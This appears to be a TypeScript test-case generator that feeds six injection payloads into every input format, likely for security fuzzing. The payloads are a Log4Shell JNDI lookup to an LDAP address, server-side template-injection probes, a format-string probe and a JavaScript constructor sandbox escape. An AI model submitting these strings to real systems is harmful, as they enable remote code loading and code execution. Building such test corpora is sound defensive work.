import type { Make } from '../case.ts'
import { inEveryFormat } from '../parts.ts'

const texts = [
  '${jndi:ldap://192.0.2.66/a}',
  '{{7*7}}',
  '<%=7*7%>',
  '#{7*7}',
  '%n%s%x',
  '{{constructor.constructor("x")()}}',
]

export const make: Make = ({ evidence }) => inEveryFormat(evidence, texts)
